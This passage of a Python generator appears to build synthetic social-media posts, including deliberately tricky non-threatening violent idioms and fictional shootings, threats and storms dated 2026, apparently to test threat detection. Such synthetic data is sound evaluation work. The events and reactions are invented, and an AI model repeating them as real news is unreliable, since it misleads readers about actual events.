        "bath time for {pet}. the neighbours probably think I'm committing a crime",
        "the way {pet} greets me at the door every single day >>>",
        "who knew a {pet_kind} could be this dramatic about a cucumber",
        "{pet} caught a mouse and left it in my shoe. thank you, I guess",
        "found {pet} asleep in the laundry basket. on the clean stuff, obviously",
        "long walk with {pet} this morning. one squirrel chased, zero caught",
        "{pet} has a vet appointment tomorrow and somehow already knows",
        "{pet} stole a whole sandwich off the counter and showed no remorse",
        "bought {pet} a fancy bed. {pet} sleeps in the box it came in",
        "{pet} just sneezed on my face and then looked offended",
        "{pet} has started sitting at the window to judge people walking past",
        "the vet called {pet} 'a character'. we know",
        "adopted a second {pet_kind} and {pet} is not taking it well",
    ], extra=[
        "pic below", "I would die for this animal", "10/10 very good", "spoiled rotten", "the boss of this house",
        "zero regrets", "look at this face", "best decision I ever made",
    ], tags=["pets", "AdoptDontShop"]),  # the author's own animal decides: see write_ordinary

    "music": dict(core=[
        "{band} announced a tour and tickets sold out in 4 minutes. I hate it here",
        "saw {band} last night and I'm still not over it",
        "on repeat today: '{song}' by {band}",
        "new {band} album is a grower, third listen and it's clicking",
        "end of year listening stats are going to expose me",
        "learning guitar at 34, my fingertips hate me",
        "the bass at that gig rearranged my organs, 10/10",
        "the support act was better than the headliner, don't tell anyone",
        "vinyl haul from the flea market: 6 records, 4 scratched, 2 absolute gems",
        "whoever made the playlist at {cafe} today, I love you",
        "tried karaoke for the first time, '{song}' was a mistake",
        "band practice tonight, our drummer is 40 minutes late as usual",
        "festival lineup just dropped and {band} are on it!!",
        "can't believe {band} played '{song}' as the encore, I screamed",
        "sat in the car for 10 minutes after getting home just to finish the album",
        "{person} doesn't like {band} and I'm trying to be okay with that",
        "new earbuds, rediscovering every album I own",
    ], extra=[
        "go listen", "the bridge though", "no skips", "what's everyone listening to?", "goosebumps",
        "crying in the car again", "still humming it",
    ], tags=["NowPlaying", "music", "vinyl", "livemusic", "concert"]),

    "local": dict(core=[
        "anyone know what's going on near {landmark}? like 6 police cars just went past",
        "the new bakery on {street} finally opened and the queue is round the block",
        "road closure on {street} again, third time this month",
        "farmers market is back at {landmark} on saturdays!!",
        "power's out on our street, anyone else in {hood}?",
        "they're tearing down the old cinema on {street} and I'm weirdly sad about it",
        "fire engine outside our building but it was just someone's toast",
        "huge queue outside the phone shop and nobody knows why",
        "the fireworks at {landmark} are tonight, anyone going?",
        "lost dog near {landmark}, brown lab, answers to Bailey, please share",
        "our street finally got its pothole fixed after 2 years. we're having a party",
        "somebody's been leaving free books in a box on {street} and I love them",
        "the new bike lane on {street} is already full of parked vans",
        "street festival in {hood} this weekend, the food trucks are back",
        "whoever keeps feeding the fox on our road, he's getting very bold",
        "the library on {street} is doing free coding classes for kids, pass it on",
        "first time at the {hood} night market and I spent way too much",
    ], extra=[
        "anyone?", "stay safe out there", "please share", "{city} never changes", "love this city",
        "only in {city}",
    ], tags=["local", "community", "smallbusiness"]),

    "questions": dict(core=[
        "recommend me a book that'll make me forget my phone exists",
        "best place for brunch in {city}? family visiting next weekend",
        "anyone got a good plumber in {hood}? asking urgently",
        "what's a good beginner camera that won't bankrupt me",
        "need a show to binge. no crime dramas please, I've seen them all",
        "how do people keep houseplants alive. genuine question",
        "is it worth upgrading from {gadget}?",
        "what do you say to a coworker who microwaves fish. asking for a friend",
        "looking for a running buddy in {city}, slow pace, lots of chatting",
        "any tips for a first-time dog owner??",
        "what's the etiquette for leaving a group chat",
        "does anyone actually read the terms and conditions",
        "which VPN do people actually trust these days",
        "how long is too long to leave an email unanswered. asking for me, it's been 3 weeks",
        "where do you all buy cheap-but-decent furniture",
        "is a standing desk worth it or is it a scam",
        "what's a good gift for someone who says they don't want anything",
        "any {cuisine} restaurants in {city} that aren't overpriced?",
    ], extra=[
        "thanks in advance!", "drop them below", "serious answers only (jokes also welcome)",
        "please and thank you", "budget is small",
    ], tags=["help", "AskFedi", "recommendations"]),

    "jokes": dict(core=[
        "my plants and I have an agreement: I forget to water them and they die dramatically",
        "autocorrect changed 'see you soon' to 'see you spoon' and honestly I prefer it",
        "me: I'll go to bed early. also me at 2am: reading about medieval cheese",
        "my therapist said to write letters to the people I'm angry at and then burn them. ok now what do I do with the ashes",
        "told my kid the ice cream van only plays music when it's out of ice cream. parenting",
        "the group chat has been silent for 3 days. who's going to tell me what happened",
        "my spirit animal is a raccoon eating out of a bin at 3am",
        "why is it called rush hour when nothing moves",
        "I don't need a gym, I get my cardio from running late",
        "if you microwave fish at work you should be arrested",
        "just saw a pigeon walk into a bakery like he owned the place. respect",
        "my love language is sending memes at 2am",
        "adulting tip: you can just buy a cake. for no reason. nobody can stop you",
        "every time I say 'last episode' a TV executive gets their wings",
        "overheard at the bus stop: 'she's not a villain, she's just from Leeds'",
        "the duality of man: gym at 6am, kebab at 11pm",
        "my toxic trait is thinking I can do a 2 hour task in 20 minutes",
        "I'm at the age where a good sponge genuinely excites me",
        "the self checkout said 'unexpected item in bagging area' and honestly same",
        "nothing humbles you like waving back at someone who wasn't waving at you",
        "my smartwatch congratulated me for standing up. low bar, but I'll take it",
        "I put 'professional overthinker' on my CV and got an interview",
        "ran into my ex at the supermarket while holding 4 tubs of ice cream. thriving",
        "the cat has been staring at an empty corner for 10 minutes. should I be worried",
    ], extra=[
        "I'm dead", "I'll see myself out", "help", "no context", "this is my villain origin story",
    ], tags=["humor", "shitpost", "relatable"]),

    "tv": dict(core=[
        "finished {show} last night and I need to talk to someone about that ending",
        "started {book} and I can't put it down",
        "don't spoil {show} for me, I'm only on episode 3",
        "library haul: 5 books, due in 3 weeks, I'll read one",
        "rewatching {show} for the fourth time, I'm not okay",
        "the book was better. the book is always better",
        "reading goal for the year: 30. current total: 11. it's fine",
        "{show} season 3 is a masterpiece, no notes",
        "that plot twist. THAT PLOT TWIST",
        "the villain in {show} is so well written I almost rooted for him",
        "finished {book} in one sitting, my tea went cold twice",
        "book club picked {book} and I've already read it twice, I'm insufferable",
        "the {show} finale had me yelling at the TV like it was a football match",
        "fell asleep 10 minutes into the movie. again. third night in a row",
        "the subtitles on {show} are better writing than the show",
    ], extra=[
        "no spoilers please", "5 stars", "I've been ruined", "recommendations welcome",
        "thoughts?", "ten out of ten",
    ], tags=["bookstodon", "amreading", "TV", "NowWatching", "books"]),

    "family": dict(core=[
        "{kid} asked why the sky is blue and I said 'science' and walked away",
        "first day of school for {kid}. I cried, {kid} didn't",
        "family dinner: 3 arguments, 1 burnt pie, lots of love",
        "my {mum} just discovered voice notes. send help",
        "dad jokes have been passed down to me. I am now the problem",
        "{kid} said 'actually' for the first time today and I'm scared",
        "happy anniversary to my favourite human",
        "visiting the grandparents this weekend, nan is already planning a 6 course lunch",
        "sibling group chat is 90% memes and 10% 'who's calling {mum}'",
        "{kid} has decided that socks are optional now",
        "parent-teacher meeting: {kid} is 'very confident'. we know",
        "took {kid} to the aquarium and they only wanted to look at the gift shop",
        "my {mum} sent me a 4 minute voice note to say 'ok'",
        "{kid} built a fort in the living room and now I live there",
        "bedtime took 90 minutes tonight. I need a lie down",
    ], extra=[
        "kids are wild", "love them though", "core memory unlocked", "family is chaos", "send coffee",
    ], tags=["parenting", "family", "dadlife", "momlife"]),

    "fitness": dict(core=[
        "leg day. stairs are my enemy now",
        "day {n} of no fizzy drinks. I dream about it",
        "doctor says my blood pressure is fine, celebrating with a burger",
        "yoga class was so peaceful until I fell over in tree pose",
        "deadlift PB today!! {lift}kg",
        "trying to get 8 hours of sleep but my brain has other plans",
        "got my flu jab, arm feels like it lost a fight",
        "back in the gym after 3 months and every muscle is filing a complaint",
        "swam 40 lengths and feel like a dolphin. a very tired dolphin",
        "bought a foam roller. it hurts. I love it. I hate it",
        "10k steps before lunch because I kept forgetting things upstairs",
        "someone at the gym is doing curls in the squat rack again",
        "climbing gym tonight, my forearms are completely gone",
    ], extra=[
        "progress not perfection", "ouch", "hydrate", "the grind continues", "tomorrow is rest day. finally",
    ], tags=["fitness", "gym", "yoga", "health", "running"]),

    "travel": dict(core=[
        "landed in {travel_city}! first stop: food",
        "flight delayed 4 hours, an airport sandwich cost me {price}",
        "packing light this time (I will not pack light)",
        "road trip playlist ready, snacks ready, patience not ready",
        "train wifi is a myth",
        "back from {travel_city}, already planning the next trip",
        "someone clapped when the plane landed and I respect it",
        "hostel roommate snores like a motorbike",
        "got lost in {travel_city} for 3 hours and found the best noodle place of my life",
        "passport expires next month. found out at the airport. ask me how that went",
        "window seat, good book, nobody next to me. perfect flight",
    ], extra=[
        "worth it", "home sweet home", "jet lag is real", "already miss it",
    ], tags=["travel", "wanderlust", "roadtrip"]),

    "outdoors": dict(core=[
        "caught a {fish} this morning at {lake}, let it go, felt like a king",
        "camping this weekend. no signal, no emails, no problem",
        "hiked {peak} today, 14 miles, worth every blister",
        "tent leaked at 2am. morale is low, coffee is strong",
        "fishing with my dad at sunrise, best therapy there is",
        "saw a bear (from very far away) (I ran anyway)",
        "first campfire of the season, s'mores are mandatory",
        "kayak flipped. I am now one with the lake",
        "new tackle box is organised better than my life",
        "the stars out here are ridiculous, no light pollution at all",
        "forgot the bug spray. I've been eaten alive",
        "whole morning on {lake}, two bites, zero fish, still a good day",
    ], extra=[
        "nature heals", "back to reality tomorrow", "pics don't do it justice", "already planning the next one",
    ], tags=["hiking", "camping", "fishing", "outdoors"]),

    "cars": dict(core=[
        "new tyres on the truck, rides like butter",
        "check engine light came on. I've decided to ignore it",
        "spent all saturday under the car and now it makes a different noise",
        "car wash guy said it was the dirtiest car he's seen this month. honoured",
        "fuel prices again. I'm walking everywhere now",
        "finally sold the old Civic, bittersweet",
        "someone parked across two spaces at the gym. the audacity",
        "test drove an EV, the silence is unsettling",
        "oil change done myself for the first time, only spilled half of it",
        "the truck hit 250k miles today and still runs better than me",
        "the mechanic said 'hmm' and I felt my wallet flinch",
    ], extra=[
        "mechanic bill incoming", "she's a beauty", "still runs", "never again",
    ], tags=["cars", "trucks", "projectcar"]),
}

OPENERS = ["ok so", "honestly", "ngl", "update:", "lol", "welp.", "so.", "random thought:", "confession:",
           "small win:", "ugh.", "guys.", "real talk:", "quick one:", "life update:", "in other news,",
           "not to be dramatic but", "so that happened.", "story time:", "mood:", "today's episode:", "me, again:",
           "well.", "brief update:", "can't believe I'm saying this but", "meanwhile,", "anyway,"]

CLOSERS = ["anyway", "that's it, that's the post", "send help", "10/10 would do again", "thoughts?", "am I wrong?",
           "just me?", "wish me luck", "more on this later", "don't @ me", "ok bye", "lesson learned",
           "every single time", "why am I like this", "can't make this up", "so yeah", "classic", "we move",
           "love that for me", "not complaining though", "help", "fully recommend", "no notes",
           "it's fine. everything's fine", "rip my sleep schedule", "as one does", "would not recommend",
           "big mood", "cheers all", "happy {today} everyone", "moving on", "sigh", "bless",
           "tell me I'm not the only one", "and that's on that", "brb", "I'll never learn", "respect",
           "what a day", "goodnight all"]

SLANG = {
    "us": ["lol", "lmao", "dude", "fr", "ngl", "for real", "bruh"],
    "uk": ["mate", "innit", "lol", "to be fair", "mind", "tbf"],
    "in": ["yaar", "bhai", "haha", "lol", "yaar seriously"],
}

EMOJI = ["😂", "🤣", "😭", "💀", "🙃", "😅", "🥲", "😩", "🙏", "❤️", "🔥", "✨", "👀", "😤", "🎉", "🙌", "😬",
         "🫠", "🥳", "👏", "😎", "🤷", "🤦", "💯", "😴", "🥹", "😌", "🤌", "👍", "😮‍💨"]
TOPIC_EMOJI = {"food": ["🍕", "☕", "🍜", "🥐", "🌮", "🍝", "🧁"], "sport": ["⚽", "🏀", "🏃", "🚴", "🏆"],
               "gaming": ["🎮", "🕹️", "👾"], "pets": ["🐶", "🐱", "🐾", "🐕", "🐈"], "music": ["🎧", "🎸", "🎶", "🎤"],
               "weather": ["🌧️", "☀️", "⛈️", "🌫️", "🍂", "🥵"], "tech": ["💻", "🐛", "⌨️"],
               "travel": ["✈️", "🧳", "🗺️"], "outdoors": ["🎣", "⛺", "🌲", "🏔️"], "cars": ["🚗", "🛻", "🔧"],
               "fitness": ["💪", "🧘", "🏋️"], "family": ["❤️", "👶", "🥰"], "tv": ["📚", "📺", "🍿"]}

# Non-English posts for authors who live in those places (lang is set accordingly).
FOREIGN = {
    "de": ["Montag. Kaffee. Mehr muss man dazu nicht sagen", "Die Bahn hat wieder 40 Minuten Verspätung, ich bin sehr überrascht (nicht)",
           "Endlich Wochenende!!", "Heute Abend gibt's Käsespätzle, wer kommt vorbei?", "Es regnet seit drei Tagen ohne Pause",
           "Hat jemand einen Tipp für einen guten Zahnarzt in {city}?", "Das Spiel gestern war der Wahnsinn, wir haben sie 4:0 zerlegt",
           "Ich bring ihn um, wenn er noch einmal um 6 Uhr staubsaugt 😂", "Feierabend 🍻",
           "Der Hund hat schon wieder meine Socken gefressen", "Wer ist heute beim Konzert im Park?",
           "Für einen Döner könnte ich gerade töten", "Drei Meetings, null Ergebnisse. Klassiker",
           "Die Heizung ist kaputt und der Vermieter antwortet nicht", "Sonntagsspaziergang an der Spree, herrlich"],
    "es": ["Lunes otra vez, no puede ser", "Qué calor hace hoy en {city}, me muero 🥵",
           "¿Alguien sabe de un buen sitio para tapas por el centro?", "Ganamos 3-0, los destrozamos 🔥",
           "Mi gato me despertó a las 5 de la mañana, otra vez", "¡Por fin viernes!",
           "Esta serie me está matando, necesito el siguiente capítulo ya", "Tercer café del día y sigo dormida",
           "El metro otra vez lleno, qué horror", "Hoy toca paella en casa de mi abuela",
           "Me he apuntado al gimnasio. Veremos cuánto dura"],
    "fr": ["Encore une grève, encore à pied", "Ce café me sauve la vie ce matin",
           "Quelqu'un a vu le match hier soir ? On les a massacrés 🔥", "Il pleut. Évidemment.",
           "Je meurs de faim, vivement midi", "Enfin le week-end !!", "Mon chat a décidé que mon clavier était son lit",
           "Qui vient au concert samedi ?", "Cette réunion aurait pu être un mail",
           "Les boulangeries fermées le lundi, c'est un crime", "Trois heures de bouchons pour rentrer, je craque"],
    "pt": ["Segunda-feira de novo, socorro", "Calor de matar hoje em {city} 🥵", "Ganhamos de 4 a 0, massacre!!",
           "Alguém indica um bom restaurante japonês na zona sul?", "Trânsito infernal hoje, levei duas horas pra chegar",
           "Finalmente sexta!!", "Meu cachorro comeu meu chinelo de novo", "Esse café salvou meu dia",
           "Show incrível ontem, ainda estou sem voz", "Chuva o dia todo, nem saí de casa"],
    "ja": ["今日も電車が遅れてる…", "やっと金曜日！", "新しいラーメン屋さん、めっちゃ美味しかった🍜",
           "昨日のライブ最高だった、まだ声が出ない", "猫がキーボードの上で寝てる", "雨がずっと降ってる",
           "このゲームのボス強すぎて何回も死んだ😂", "コーヒー3杯目", "週末は実家に帰ります", "残業で死にそう",
           "新しいスニーカー買った", "今日は散歩日和"],
    "tr": ["Pazartesi yine geldi, inanılmaz", "Bu trafik beni öldürecek", "Maçı izleyen var mı? 3-0 ezdik!!",
           "Kahve olmadan olmuyor", "Nihayet hafta sonu", "Kedim yine klavyemin üstünde uyuyor",
           "Bugün hava çok güzel, sahilde yürüdüm"],
}

# --------------------------------------------------------------------------------------------
# The hard cases: violent words that are not threats. Ordinary authors write these.
# --------------------------------------------------------------------------------------------

HARD: dict[str, list[str]] = {
    "idiom": [
        "this commute is killing me", "I'd kill for a {drink} right now",
        "my boss is going to murder me when she sees {blunder}", "I'm dead 😂", "I'm actually dead",
        "{band} absolutely slayed last night", "that set absolutely slayed", "this heat is killing me",
        "{person} is going to kill me, I forgot {thing}", "these new shoes are murdering my feet",
        "you're killing me with these puns", "that presentation? killed it. nailed it. buried it",
        "killing time at the airport, 3 hours to go", "this spreadsheet is going to be the death of me",
        "shot my shot, she said yes ❤️", "the comedian last night absolutely killed",
        "we killed it at the pub quiz, first place baby", "these deadlines are murder",
        "bombed my driving test lol, round two in {month}", "literally dying of cringe rn",
        "she shot me a look that could kill", "destroyed an entire pizza by myself, no regrets",
        "my inbox is a war zone", "the hotel breakfast was to die for", "I could murder a curry right now",
        "that exam was a massacre, nobody finished question 4", "got absolutely destroyed at trivia tonight",
        "my legs are dead after that hike", "my houseplants are on a suicide mission, I swear",
        "if the printer jams one more time it's going out the window",
        "I will personally fight whoever invented reply-all", "mondays should be illegal",
        "that beat drop was a bomb", "I'm gonna lose my mind if this call runs over again",
        "my phone died at the worst possible moment", "this cold is killing me, day 4 of tissues",
        "that burrito was lethal, in a good way", "the quiz master shot down every single one of my answers",
        "my sister's wedding speech absolutely killed, not a dry eye", "these stairs will be the death of me",
        "my plants are plotting my murder, I can feel it", "my group project partner ghosted us, I'm going to scream",
        "dead tired. like, actually dead", "I'd sell my soul for a long weekend",
        "traffic on the ring road is murder today", "my abs are destroyed after that class",
    ],
    "gaming": [
        "{n} headshots in one round, {fps} is so back", "camping with the sniper on {map} all night, sorry to everyone I spawn-killed",
        "nuked the boss in under 2 minutes, new record", "we wiped the whole squad, clip incoming",
        "got absolutely obliterated in ranked, uninstalling (reinstalling tomorrow)",
        "no-scoped a guy from across {map}, I'm a legend", "my team fed so hard we lost 13-2",
        "finally got the ace in {fps}. five kills, one round, screaming",
        "the new shotgun in {fps} is broken, one-taps everything", "raid night: we killed the final boss after 6 hours of wipes",
        "team kill number 4 of the night and they kicked me", "loaded up on grenades and charged. died immediately. worth it",
        "just picked up the legendary rifle in {fps}, dropping it for no one",
        "body armor upgrade in {fps} finally dropped, tank build time",
        "been camping B site for three rounds and nobody checks it. free kills",
        "blew up the enemy base with one C4, chef's kiss", "massacred in round one of the tournament, we go next",
        "that last-second headshot to win the match >>>", "{big_n} kill streak and then I stepped on a mine",
        "my cat walked across the keyboard mid-match and somehow got a kill",
        "the sniper rifle in {fps} needs a nerf, I'm getting one-shot from spawn",
        "hunted down the last guy with a knife. the disrespect. I love this game",
        "reloading is for cowards, I just swap weapons", "killed the dragon on my first try, witnesses present",
        "stream tonight: we're going to murder some zombies",
    ],
    "sport": [
        "we destroyed them {big_score}", "{team} absolutely murdered {rival} tonight",
        "{rival} got slaughtered, {big_score}, what a night", "our striker was on fire, shooting from everywhere",
        "keeper took a shot to the face and kept playing. legend", "that tackle was assault, how is that not a red",
        "they killed the game off in the 80th minute", "total demolition job at the derby",
        "we got hammered at home, {lose_score}. worst day of the season", "our defence was a crime scene tonight",
        "knocked him out cold in round 2. brutal", "fight night at the pub, who's coming?",
        "{player} went off for 41 points and just buried them", "the pitcher threw at his head and the benches cleared",
        "shootout win!! penalties will take years off my life", "we're going to war on saturday, derby day",
        "that free kick was a rocket, absolute missile", "coach said 'go out there and kill them' and we did. 4-1",
        "massacre at the cricket club, all out for 42", "bowled him first ball, clean bowled, stumps everywhere",
    ],
    "negation": [
        "I would never hurt anyone, I literally carry spiders outside",
        "I'm not going to shoot anybody, relax, it's a water gun fight",
        "no I'm not going to kill my roommate, but I am hiding his controller",
        "for the record I don't own a gun and never will",
        "people keep asking if I'm 'going to do something' about the neighbour. no. strongly worded letter",
        "I could never hurt an animal, I'm vegetarian for a reason",
        "not a threat, just a promise: I will eat all the leftover cake",
        "I don't want to hurt anybody, I just want the guy upstairs to stop hoovering at midnight",
        "nobody is getting stabbed, it's a cooking class, chill",
        "relax, the 'bomb' I mentioned was a bath bomb",
        "I'm not violent but the self checkout tests me daily",
        "I would never threaten anyone online, that's unhinged behaviour",
        "we're not blowing anything up, it's a fireworks permit and the council approved it",
        "no one is getting hurt at this stag do, I've made a spreadsheet",
        "I'm not planning anything, {person}. the surprise party is not happening. (it is happening)",
        "she asked if I wanted revenge on my ex. nah. therapy and a new haircut",
        "never touched a weapon in my life, even in games I play the healer",
        "don't worry, I'm not going to attack the vending machine. again",
        "I'm not going to kill anyone over a parking space, but I'm thinking about it very hard",
        "to be clear I have zero interest in guns, I went to the range once for a birthday and hated it",
    ],
    "news": [
        "police say the shooter wrote a manifesto weeks before the attack. how does nobody notice",
        "according to reports the attacker bought the gun the week before. the week before",
        "BREAKING: suspect arrested after threats against {civic_place}",
        "police say a teenager has been charged over threats against {school}. glad nobody was hurt",
        "reading about {attack_long} and apparently the guy posted his plans online for months. how did nobody report it",
        "officials say the bomb threat at {venue} was a hoax. whoever did it, shame on you",
        "news says the suspect had been stockpiling ammunition and nobody knew. terrifying",
        "the inquiry says warning signs were missed before {attack_ref}. again. it's always 'warning signs were missed'",
        "police are asking people to report threatening posts, even if they seem like jokes",
        "the news anchor said 'the gunman opened fire at 9:14' and I had to turn it off",
        "reportedly the man who threatened {civic_place} had a history of assault. of course he did",
        "detectives say the suspect's posts showed a growing fascination with previous attacks",
        "prosecutors say {attacker} told coworkers he 'wanted to be remembered'. he won't be, by me",
    ],
    "lyric": [
        "'{lyric}' - {band} really said that and I felt it", "as the song goes, '{lyric}'",
        "can't stop singing '{lyric}' in the shower", "{band} lyric of the day: '{lyric}'",
        "'{lyric}' is stuck in my head and it's 2am", "new {band} single goes '{lyric}' and I'm obsessed",
        "'kill your darlings' - every writing teacher ever, and today I did",
        "'what doesn't kill you makes you stronger'. ok but what if it just makes me tired",
        "'shoot for the moon, even if you miss you'll land among the stars' - my mug, every morning",
        "'say hello to my little friend' - me introducing everyone to my new cactus",
        "'here's Johnny!' - me bursting into the team call 10 minutes late",
        "my karaoke song is '{song}' and the chorus is literally '{lyric}'",
        "writing a song, first line: '{lyric}'. we'll see",
        "'{lyric}' hits different on a night bus",
    ],
    "condemn": [
        "{years_since} years since {attack_long}. pure evil. thinking of the victims and their families today",
        "can we stop putting the {attack_place} shooter's face on every front page? say the victims' names",
        "watched the Pinecrest documentary. heartbreaking. those kids deserved so much better",
        "{attack_ref} was pure evil. nothing about it should ever be celebrated",
        "anyone glorifying {attacker} online needs reporting. full stop",
        "visited the {attack_place} memorial today. so many flowers. so quiet",
        "there's nothing brave about shooting unarmed people. cowards, all of them",
        "my aunt was at Marlow Plaza that day. she still can't go to malls. never forget what that man did",
        "reporting every account that calls the Pinecrest shooter a hero. disgusting",
        "memorial run for the Halden Street victims on saturday, 5k, everyone welcome",
        "the way some forums worship these attackers is genuinely sickening",
        "the Eastbrook depot bombing families are still fighting for answers 9 years later",
        "{victims} people went to {attack_place} and never came home. remember them, not him",
        "the teachers who stayed with those kids at Pinecrest are the only heroes in that story",
    ],
    "hobby": [
        "deer season opens next week, checking the old rifle and the freezer space",
        "clay shooting with dad today, he still beats me every single time",
        "airsoft sunday: got shot in the knuckle, 10/10 pain, going back next week",
        "paintball for {friend}'s birthday, I have 14 bruises and zero regrets",
        "archery club tonight, finally hit the gold. twice",
        "fencing class: stabbed my instructor (legally, with points)",
        "range day at the club, grouping is getting tighter. olympic trials here I come (no)",
        "knife sharpening workshop was so satisfying, my kitchen knives are terrifying now",
    ],
}

# --------------------------------------------------------------------------------------------
# Dated events: the world moves, news reports it, ordinary people react.
# --------------------------------------------------------------------------------------------

@dataclass
class Event:
    key: str
    start: dt.datetime
    end: dt.datetime
    regions: tuple[str, ...] | None  # None = everyone
    interest: str | None  # only authors with this interest (or None)
    rate: float  # probability that an eligible post in the window is about the event
    extra_posts: float  # mean number of additional posts per eligible author in the window
    lines: list[str]
    tags: list[str]
    solemn: bool = False


def _d(s: str) -> dt.datetime:
    return dt.datetime.fromisoformat(s).replace(tzinfo=UTC)


EVENTS = [
    Event("halden_verdict", _d("2026-06-17"), _d("2026-06-21"), ("us_east", "us_central", "us_west"), None, 0.18, 0.3, [
        "life without parole for Vale. good. now let's never say his name again",
        "prosecutors said he bought the rifle nine days before Halden Street. nine days, and nobody noticed anything?",
        "the Halden Street families are the strongest people I've ever seen. that courtroom statement",
        "the Halden Street shooter apparently posted hints online for months. how did nobody report it",
        "can the news stop running the Halden Street shooter's photo. use the victims' photos",
        "sentencing today for Halden Street. the judge called it 'calculated and cowardly'. exactly",
    ], ["HaldenStreet"], True),
    Event("marlow_anniv", _d("2026-07-08"), _d("2026-07-11"), None, None, 0.12, 0.12, [
        "7 years since the Marlow attack. pure evil. thinking of the eleven and their families today",
        "seven years ago today. Marlow Plaza. say their names",
        "the Marlow inquiry says the warning signs were there and nobody acted. that should make everyone furious",
        "lit a candle for the Marlow victims tonight. never forget them, forget him",
        "my cousin lost her best friend at Marlow Plaza. seven years and it doesn't get easier",
    ], ["MarlowRemembers"], True),
    Event("cloudnest", _d("2026-07-22"), _d("2026-07-24"), None, "tech", 0.55, 0.6, [
        "CloudNest is down and so is my will to work", "half my apps are broken, thanks CloudNest",
        "CloudNest status page says 'investigating'. me too buddy", "on call during the CloudNest outage. pray for me",
        "can't pay for my coffee because CloudNest is down. the future is great",
        "CloudNest back up. our dashboards look like a heart attack",
        "postmortem for the CloudNest outage is going to be a fun read",
    ], ["CloudNestDown", "outage"]),
    Event("cityhall_threat", _d("2026-08-19"), _d("2026-08-22"), ("us_east",), None, 0.2, 0.4, [
        "BREAKING from Kellerton: suspect arrested after threats against city hall. glad they got him",
        "according to reports the Kellerton city hall guy bought a handgun last week. terrifying",
        "my cousin works at Kellerton City Hall, she's fine, just really shaken",
        "police say he posted a video naming two council members. people need to report this stuff",
        "the city hall threat story is wild. his neighbours said he was 'quiet'. they always say that",
    ], ["Kellerton"], True),
    Event("pinecrest_doc", _d("2026-09-20"), _d("2026-09-26"), None, "tv", 0.35, 0.3, [
        "watched After Pinecrest last night. cried the whole way through",
        "the Pinecrest survivors are incredible. that documentary should be required viewing",
        "nothing about what that shooter did was brave. the teachers who stayed with those kids were",
        "After Pinecrest never shows the shooter's face once. that's how you do it",
        "the part of After Pinecrest with the moms at the fence. I can't",
    ], ["AfterPinecrest"], True),
    Event("eastfield_hoax", _d("2026-10-07"), _d("2026-10-10"), ("uk",), None, 0.25, 0.4, [
        "kids sent home from Eastfield because of a threat. turned out to be a hoax. still shaking",
        "police say the Eastfield threat was a 15 year old. I hope he realises what he put parents through",
        "not funny. not a prank. I spent two hours not knowing if my son was ok",
        "Brayford police say the Eastfield threat was a hoax and a teenager has been arrested",
    ], ["Brayford"], True),
    Event("ashfall_hype", _d("2026-08-20"), _d("2026-08-24"), None, "gaming", 0.3, 0.3, [
        "Ashfall 2 trailer!!! November can't come soon enough", "the Ashfall 2 trailer music though",
        "preordered Ashfall 2, no regrets", "Ashfall 2 release date is literally my birthday week",
    ], ["Ashfall2"]),
    Event("ashfall2", _d("2026-11-05"), END, None, "gaming", 0.65, 1.6, [
        "Ashfall 2 is out and I have called in sick", "12 hours into Ashfall 2, the story is unreal",
        "Ashfall 2 servers are melting lol", "the first boss in Ashfall 2 killed me 30 times and I love it",
        "no spoilers for Ashfall 2 please, I'm only on chapter 3", "Ashfall 2 photo mode is ruining my productivity",
        "stayed up till 4 playing Ashfall 2. work is going to be fun",
        "Ashfall 2 co-op with {friend} is chaos, we keep blowing each other up",
        "Ashfall 2 performance on PC is rough, the first patch better fix it",
        "the ending of Ashfall 2 act 1. I need a minute",
        "Ashfall 2 has the best crafting system I've seen in years",
        "lost 6 hours to Ashfall 2 today, no regrets",
        "the dog in Ashfall 2 better survive or I riot",
        "Ashfall 2 ranked is full of sweats already",
        "finally got the Ashfall 2 legendary bow. it slaps",
        "who's playing Ashfall 2? drop your ID",
    ], ["Ashfall2", "gaming"]),
    Event("storm_kestrel", _d("2026-11-06"), _d("2026-11-13"), ("uk",), None, 0.7, 1.7, [
        "Storm Kestrel took our fence. the neighbours' trampoline is now in our garden",
        "power's out, candles lit, board games out. Kestrel can do one",
        "trains cancelled because of Storm Kestrel, working from the sofa",
        "the wind last night was unreal, sounded like the roof was going",
        "stay safe everyone, Storm Kestrel isn't messing about",
        "tree down across the whole road by us, council are on it",
        "Storm Kestrel update: bins found. two streets away",
        "school closed for Kestrel, the kids are feral already",
        "flooding on the high street again, Kestrel showing no mercy",
        "power back after 19 hours. never taking the kettle for granted again",
        "the sea wall footage from Kestrel is terrifying",
        "amber warning again tonight, tie down anything that moves",
    ], ["StormKestrel", "weather"]),
    Event("storm_kestrel_far", _d("2026-11-07"), _d("2026-11-12"), None, None, 0.05, 0.0, [
        "watching the Storm Kestrel footage from here, stay safe UK friends",
        "Storm Kestrel looks brutal, hope everyone over there is ok",
    ], ["StormKestrel"]),
]

# --------------------------------------------------------------------------------------------
# News feeds (RSS) and news accounts. Headline + summary; town slots come from the outlet.
# --------------------------------------------------------------------------------------------

NEWS_REGULAR = [
    ("Council approves {civic_project} plan after late-night vote", "The measure passed 6-3 after more than four hours of public comment."),
    ("Rents in {town} up {pct}% in a year, report finds", "Tenant groups are calling for an emergency cap; landlords say their costs have risen too."),
    ("Road closures planned on {tstreet} for water main repairs", "Work is expected to last three weeks. Buses will be diverted."),
    ("{town} library branch to reopen after flood repairs", "The branch closed in March after a burst pipe damaged the children's section."),
    ("Police appeal for witnesses after stabbing on {tstreet}", "A man in his 20s was taken to hospital with injuries not thought to be life-threatening. A 24-year-old has been arrested."),
    ("Man jailed for assault outside {tbar}", "The court heard he punched a stranger twice in an unprovoked attack last winter."),
    ("Bomb threat at {tvenue} was a hoax, police confirm", "The building was evacuated for around two hours. Officers said nothing suspicious was found."),
    ("Teen charged over online threats against {tschool}", "Police said the threats were posted in a group chat. No weapons were found at the teen's home."),
    ("Security stepped up at {tvenue} after online threats", "The mayor said the city was 'taking every post seriously' and urged residents to report concerns."),
    ("Threat assessment teams stretched as reports of online threats rise", "Experts say most people who post threats never act, but those who do often leak their plans first."),
    ("{team} thrash {rival} {big_score} to go top", "A hat-trick from {player} sealed the rout before half-time."),
    ("{team} beaten {lose_score} at home", "The manager called the performance 'unacceptable' and apologised to supporters."),
    ("Heat advisory extended through the weekend", "Officials urged residents to check on elderly neighbours and avoid strenuous activity."),
    ("Weather warning issued as heavy rain expected", "Forecasters warned of localised flooding on low-lying roads."),
    ("New bakery draws queues around the block on {tstreet}", "The owners say they sold out of croissants by 9am on opening day."),
    ("Lost dog reunited with family after three weeks", "Bailey the labrador was found two miles from home, hungry but healthy."),
